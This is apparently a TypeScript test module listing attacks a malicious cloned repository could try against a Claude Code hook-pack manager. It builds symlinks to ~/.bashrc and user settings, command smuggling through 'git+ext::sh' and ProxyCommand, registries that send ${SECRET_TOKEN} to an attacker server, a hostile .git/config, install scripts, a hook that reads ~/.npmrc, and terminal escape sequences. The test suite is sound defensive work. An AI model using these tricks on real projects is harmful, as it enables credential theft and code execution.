import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { put, readJson } from '../scenarios/cli.ts'
import { type Clone, GUARD } from './clone.ts'

/** Something that somebody who writes a project may try on those who clone it. */
export interface Attack {
  readonly name: string
  /** The command that it is made for, which is tried with it in every run. */
  readonly aimsAt?: string
  /** It has hooks that start a program of the attacker's, as the client would: to be run only by who says `--run`. */
  readonly runs?: true
  /** `evil`: the address of a server that the attacker runs; ends with `/`. */
  readonly prepare: (at: Clone, evil: string) => void
  /** Tells what it has got, when it has got something besides files outside and secrets at its server. */
  readonly got?: (at: Clone) => string | undefined
}

/** A variable as files name it. */
const VARIABLE = ['$', '{SECRET_TOKEN}'].join('')

const request = (at: Clone): string => path.join(at.folder, 'hookpack.json')

/** The attacker's command in the settings, where it was not before. */
const inSettings = (at: Clone): string | undefined =>
  existsSync(at.settings) && readFileSync(at.settings, 'utf8').includes('outside/ran')
    ? 'a command in the settings'
    : undefined

function replaceByLink(file: string, target: string): void {
  rmSync(file, { recursive: true, force: true })
  symlinkSync(target, file)
}

type Ends = (at: Clone) => readonly [file: string, target: string]

const LINKS: readonly (readonly [name: string, ends: Ends])[] = [
  ['settings.json is a link to the user settings', (at) => [at.settings, `${at.home}/.claude/settings.json`]],
  ['settings.json is a relative link out', (at) => [at.settings, '../../home/.claude/settings.json']],
  [
    'settings.local.json is a link to the user settings',
    (at) => [`${at.project}/.claude/settings.local.json`, `${at.home}/.claude/settings.json`],
  ],
  ['lock.json is a link to a file of the user', (at) => [at.lock, `${at.home}/.bashrc`]],
  ['hookpack.json is a link to a file of the user', (at) => [request(at), `${at.home}/.bashrc`]],
  ['hookpack.json is a link to a device without end', (at) => [request(at), '/dev/zero']],
  ['table.json is a link to a file of the user', (at) => [`${at.folder}/table.json`, `${at.home}/.bashrc`]],
  ['runtime.cjs is a link to a file of the user', (at) => [`${at.folder}/runtime.cjs`, `${at.home}/.bashrc`]],
  [
    'journal.json is a link to a file of the user',
    (at) => [`${at.folder}/journal.json`, `${at.home}/.bashrc`],
  ],
  ['packs is a link to a folder of the user', (at) => [`${at.folder}/packs`, at.outside]],
  ['the own folder is a link to a folder of the user', (at) => [at.folder, at.outside]],
  ['.claude is a link to the user configuration', (at) => [`${at.project}/.claude`, `${at.home}/.claude`]],
  ['.mutex is a link to a file of the user', (at) => [`${at.folder}/.mutex`, `${at.home}/.bashrc`]],
  [
    'the staged settings are a link to a file of the user',
    (at) => [`${at.project}/.claude/.settings.json.hookpack-tmp`, `${at.home}/.bashrc`],
  ],
]

const links: readonly Attack[] = LINKS.map(([name, ends]) => ({
  name,
  prepare: (at) => replaceByLink(...ends(at)),
}))

const lockfiles: readonly Attack[] = [
  {
    name: 'a pack folder leads out of the scope',
    prepare: (at) =>
      at.editLock(
        ({ packs }) => void Object.assign(packs[GUARD] ?? {}, { folder: 'packs/x/../../../../../outside' }),
      ),
  },
  {
    name: 'a pack folder is another part of the project',
    prepare: (at) => at.editLock(({ packs }) => void Object.assign(packs[GUARD] ?? {}, { folder: '.' })),
  },
  {
    name: 'the files of a pack lead out of it',
    prepare: (at) =>
      at.editLock(
        ({ packs }) =>
          void Object.assign(packs[GUARD]?.files ?? {}, { '../../../../../../outside/x': '0'.repeat(64) }),
      ),
  },
  {
    name: 'a pack is called by a path',
    prepare: (at) => at.editLock(({ packs }) => void Object.assign(packs, { '../../outside': packs[GUARD] })),
  },
  {
    name: 'an entry runs a command',
    prepare: (at) =>
      at.editLock(
        ({ entries }) =>
          void entries.push({
            event: 'SessionStart',
            handler: { type: 'command', command: at.payload },
            hooks: [`${GUARD}/guard`],
          }),
      ),
    got: inSettings,
  },
  {
    name: 'a hook is said to be a command',
    prepare: (at) =>
      at.editLock(
        ({ packs }) =>
          void (packs[GUARD] as unknown as { hooks: object[] }).hooks.push({
            id: 'x',
            event: 'SessionStart',
            timeout: 5,
            failure: 'continue',
            handler: { type: 'command', fields: { command: at.payload } },
          }),
      ),
    got: inSettings,
  },
  {
    name: 'the guard is said to go on when it fails',
    prepare: (at) =>
      at.editLock(({ packs }) => {
        for (const hook of (packs[GUARD] as unknown as { hooks: { failure: string }[] }).hooks)
          hook.failure = 'continue'
      }),
  },
  {
    name: 'a pack that is gone is to be fetched by a program',
    prepare: (at) => {
      rmSync(path.join(at.folder, 'packs'), { recursive: true })
      at.editLock(
        ({ packs }) =>
          void Object.assign(packs[GUARD] ?? {}, {
            source: 'git+ext::sh',
            resolved: `git+ext::sh -c ${at.payload}`,
          }),
      )
    },
  },
  {
    name: 'a pack that is gone is to be fetched over ssh with options',
    prepare: (at) => {
      rmSync(path.join(at.folder, 'packs'), { recursive: true })
      at.editLock(
        ({ packs }) =>
          void Object.assign(packs[GUARD] ?? {}, {
            source: 'git+ssh://x',
            resolved: `git+ssh://-oProxyCommand=touch ${at.outside}/ran/x#main`,
          }),
      )
    },
  },
  {
    name: 'a pack that is gone is to be fetched from the attacker',
    prepare: (at, evil) => {
      rmSync(path.join(at.folder, 'packs'), { recursive: true })
      at.editLock(
        ({ packs }) => void Object.assign(packs[GUARD] ?? {}, { source: 'npm', resolved: `${evil}x.tgz` }),
      )
    },
  },
  {
    name: 'a pack and its hash have been changed',
    prepare: (at) => {
      const { packs } = readJson<{
        packs: Record<string, { folder: string; files: Record<string, string> }>
      }>(at.lock)
      const { folder = '', files = {} } = packs[GUARD] ?? {}
      const [file = ''] = Object.keys(files).filter((name) => name.endsWith('.cjs'))
      put(path.join(at.folder, folder, file), 'module.exports = () => {}\n')
    },
  },
]

const requests: readonly Attack[] = [
  {
    name: 'hookpack.json asks for a repository through a program',
    prepare: (at) => put(request(at), { packs: { x: { from: `git+ext::sh -c '${at.payload}'` } } }),
  },
  {
    name: 'hookpack.json asks for a repository with an option for an address',
    prepare: (at) =>
      put(request(at), { packs: { x: { from: `git+ssh://-oProxyCommand=touch ${at.outside}/ran/y` } } }),
  },
  {
    name: 'hookpack.json asks for a device as an archive',
    prepare: (at) => put(request(at), { packs: { x: { from: '/dev/zero.tgz' } } }),
  },
  {
    name: 'hookpack.json has a registry with a header of a secret',
    prepare: (at, evil) =>
      put(request(at), {
        packs: { x: '^1' },
        registries: { evil: { url: evil, headers: { authorization: `Bearer ${VARIABLE}` } } },
      }),
  },
  {
    name: 'hookpack.json has a registry with a secret in its address',
    prepare: (at, evil) =>
      put(request(at), { packs: { x: '^1' }, registries: { evil: `${evil}\${SECRET_TOKEN}/` } }),
  },
  {
    name: 'hookpack.json takes over the namespace that the user has',
    prepare: (at, evil) =>
      put(request(at), { packs: { '@mine/x': '^1' }, registries: { '@mine': { npm: evil } } }),
  },
  {
    name: 'hookpack.json switches the embedded registry off',
    prepare: (at, evil) =>
      put(request(at), { packs: { [GUARD]: '^1' }, registries: { hookpack: false, evil } }),
  },
  {
    name: 'a pack of the project holds a link to a secret',
    prepare: (at) => {
      const folder = path.join(at.project, 'pack')
      put(path.join(folder, 'package.json'), { name: 'stealing', version: '1.0.0' })
      put(path.join(folder, 'hooks.json'), { hooks: [] })
      symlinkSync(path.join(at.home, 'secret'), path.join(folder, 'secret.txt'))
      put(request(at), { packs: { stealing: { from: './pack' } } })
    },
    got: (at) =>
      JSON.stringify([...walk(at.folder)]).includes('hunter2') ? 'a secret in the project' : undefined,
  },
]

function* walk(folder: string): Generator<string> {
  for (const name of readdirSync(folder, { recursive: true, withFileTypes: true }))
    if (name.isFile()) yield readFileSync(path.join(name.parentPath, name.name), 'latin1')
}

const others: readonly Attack[] = [
  {
    name: '.npmrc names another registry and a secret',
    prepare: (at, evil) =>
      put(
        path.join(at.project, '.npmrc'),
        `registry=${evil}\${SECRET_TOKEN}/\n@mine:registry=${evil}\nalways-auth=true\ncafile=/dev/zero\n`,
      ),
  },
  {
    name: '.git/config runs programs',
    prepare: (at) =>
      put(
        path.join(at.project, '.git/config'),
        `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ${at.payload}\n\tsshCommand = ${at.payload}\n[alias]\n\tinit = !${at.payload}\n`,
      ),
  },
  {
    name: 'a journal names a file of the user',
    prepare: (at) =>
      put(path.join(at.folder, 'journal.json'), {
        v: 1,
        writes: [{ path: `${at.home}/.bashrc`, before: '# mine\n', after: 'evil\n' }],
      }),
  },
  {
    name: 'a mutex is held by nobody',
    prepare: (at) => put(path.join(at.folder, '.mutex'), { pid: 999_999, host: 'elsewhere' }),
  },
  {
    name: 'the table names a module outside',
    prepare: (at) => {
      writeFileSync(path.join(at.outside, 'module.cjs'), '')
      put(path.join(at.folder, 'table.json'), {
        version: 1,
        hooks: { [`${GUARD}/guard`]: { event: 'PreToolUse', module: '../../../outside/module.cjs' } },
      })
    },
  },
  {
    name: 'the runtime is another program',
    runs: true,
    prepare: (at) =>
      put(path.join(at.folder, 'runtime.cjs'), `require('fs').writeFileSync('${at.outside}/ran','')\n`),
  },
  {
    name: 'a package.json with scripts',
    prepare: (at) =>
      put(path.join(at.project, 'package.json'), {
        name: 'x',
        version: '1.0.0',
        scripts: Object.fromEntries(
          ['preinstall', 'install', 'prepare', 'postinstall', 'prepublish'].map((name) => [name, at.payload]),
        ),
      }),
  },
  {
    name: 'node_modules has a hookpack of its own',
    prepare: (at) => {
      put(
        path.join(at.project, 'node_modules/npm/index.js'),
        `require('fs').writeFileSync('${at.outside}/ran','')`,
      )
      put(
        path.join(at.project, 'node_modules/make-fetch-happen/index.js'),
        `require('fs').writeFileSync('${at.outside}/ran','')`,
      )
    },
  },
  {
    name: 'the local folder came with the clone, with its own wishes',
    prepare: (at, evil) => {
      mkdirSync(path.join(at.project, '.claude/hookpack.local'), { recursive: true })
      put(path.join(at.project, '.claude/hookpack.local/hookpack.json'), {
        packs: { x: '^1' },
        registries: { evil: { url: evil, headers: { a: VARIABLE } } },
      })
    },
  },
  {
    name: 'approvals lie in the project',
    prepare: (at) => put(path.join(at.project, '.claude/approvals.json'), { v: 1, approvals: [] }),
  },
]

const NASTY = '\u001B]0;owned\u0007\u001B[2J\u009B31m\u202Eevil'

const settingsWith = (...commands: readonly string[]): object => ({
  hooks: {
    PreToolUse: [{ matcher: 'Bash', hooks: commands.map((command) => ({ type: 'command', command })) }],
  },
})

const exported = (at: Clone): string => path.join(at.project, 'exported')
const imported = (at: Clone): string => path.join(at.project, 'imported-hooks')

/** Made for commands that look at hooks, or make something of them. */
const looking: readonly Attack[] = [
  {
    name: 'the settings name files of the user as scripts',
    aimsAt: 'doctor',
    prepare: (at) =>
      put(at.settings, settingsWith('~/.bashrc', `${at.home}/secret`, `sh ${at.home}/secret`, `. ~/.npmrc`)),
  },
  {
    name: 'a script of the settings is a link to a file of the user',
    aimsAt: 'doctor',
    prepare: (at) => {
      replaceByLink(path.join(at.project, 'x.sh'), `${at.home}/secret`)
      put(at.settings, settingsWith('"$CLAUDE_PROJECT_DIR"/x.sh', './x.sh', 'sh ./x.sh'))
    },
  },
  {
    name: 'a hook looks for tokens',
    aimsAt: 'explain',
    prepare: (at) =>
      put(at.settings, settingsWith('env; cat ~/.npmrc ~/secret; cat .claude/up/secret; true')),
  },
  {
    name: 'the settings run a program',
    aimsAt: 'import',
    runs: true,
    prepare: (at) => put(at.settings, settingsWith(at.payload, `$(${at.payload})`, `true; ${at.payload}`)),
  },
  {
    name: 'folders of .claude are links to the home folder',
    aimsAt: 'explain',
    prepare: (at) => {
      for (const name of ['up', 'skills', 'agents', 'commands', 'hooks'])
        replaceByLink(path.join(at.project, '.claude', name), at.home)
      put(
        at.settings,
        settingsWith('echo x >.claude/up/x; echo x >.claude/hooks/x; cat .claude/up/secret; true'),
      )
    },
  },
  {
    name: 'the folder of an export is a link',
    aimsAt: 'export',
    prepare: (at) => replaceByLink(exported(at), at.outside),
  },
  {
    name: 'the folder of an export is a link to nothing',
    aimsAt: 'export',
    prepare: (at) => replaceByLink(exported(at), path.join(at.outside, 'new')),
  },
  {
    name: 'the folder of an export says it was one, and has a link in it',
    aimsAt: 'export',
    prepare: (at) => {
      put(path.join(exported(at), 'hookpack/export.json'), { hookpackExport: 1, files: {} })
      symlinkSync(at.home, path.join(exported(at), 'home'))
    },
  },
  {
    name: 'the folder of an import is a link',
    aimsAt: 'import',
    prepare: (at) => {
      put(at.settings, settingsWith('echo hi'))
      replaceByLink(imported(at), at.outside)
    },
  },
  {
    name: 'scripts that are to be imported lead out',
    aimsAt: 'import',
    prepare: (at) => {
      replaceByLink(path.join(at.project, 'x.sh'), `${at.home}/secret`)
      replaceByLink(path.join(at.project, 'up'), at.home)
      put(
        at.settings,
        settingsWith('sh ./x.sh', 'sh ./up/secret', 'sh ./../home/secret', `sh ${at.home}/secret`),
      )
    },
    got: (at) =>
      existsSync(imported(at)) && [...walk(imported(at))].some((text) => text.includes('hunter2'))
        ? 'a secret in a pack'
        : undefined,
  },
  {
    name: 'texts act on the terminal',
    aimsAt: 'list',
    prepare: (at) => {
      put(at.settings, {
        hooks: {
          PreToolUse: [
            {
              matcher: 'Bash',
              hooks: [{ type: 'command', command: `true # ${NASTY}`, statusMessage: NASTY }],
            },
            { matcher: NASTY, hooks: [{ type: NASTY, command: NASTY, [NASTY]: 1 }] },
          ],
          [NASTY]: [{ hooks: [{ type: 'command', command: NASTY }] }],
        },
        [NASTY]: NASTY,
      })
      for (const kind of ['agents/x', 'skills/x/SKILL'])
        put(
          path.join(at.project, '.claude', `${kind}.md`),
          `---\nname: ${NASTY}\nhooks:\n  PreToolUse:\n    - matcher: Bash\n      hooks:\n        - type: command\n          command: printf '${NASTY}'\n---\n`,
        )
      at.editLock((lock) => void Object.assign(lock, { disabled: [NASTY] }))
    },
  },
]

export const ATTACKS: readonly Attack[] = [...links, ...lockfiles, ...requests, ...others, ...looking]
